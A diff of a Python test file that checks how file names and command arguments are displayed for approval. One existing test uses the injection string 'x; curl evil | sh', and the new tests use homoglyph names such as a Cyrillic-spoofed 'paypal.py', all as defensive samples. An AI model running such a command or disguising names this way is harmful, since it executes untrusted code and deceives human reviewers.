@@ -90,3 +90,23 @@ def test_a_name_in_a_command_to_copy_stays_one_word_of_it(name: str):
 def test_a_name_in_a_command_cannot_bring_a_command_or_a_row_of_its_own():
     assert shown_argument("x; curl evil | sh") == "'x; curl evil | sh'"
     assert shown_argument("a\nb") == "'a⏎b'"
+
+
+@pytest.mark.parametrize(
+    ("name", "seen"),
+    [
+        ("p\u0430ypal.py", "p\\u{430}ypal.py"),
+        ("\u0441\u043e\u0440\u0443", "\\u{441}\\u{43e}\\u{440}\\u{443}"),
+        ("file\u0436", "file\\u{436}"),
+        ("\u13aapple", "\\u{13aa}pple"),
+        ("10\u043a\u043c", "10\\u{43a}\\u{43c}"),
+        *(
+            (name, name)
+            for name in ("test_файл.txt", "отчёт", "Größe", "łódź", "报告v2.txt", "データa", "Ελλάδα", "µs")
+        ),
+    ],
+)
+def test_names_of_mixed_scripts_are_marked_and_those_of_one_are_not(name: str, seen: str) -> None:
+    """P4: whoever approves a name sees which letters are not what they look like."""
+    assert shown_row(name) == seen
+    assert bool(disguises(name)) == (seen != name)
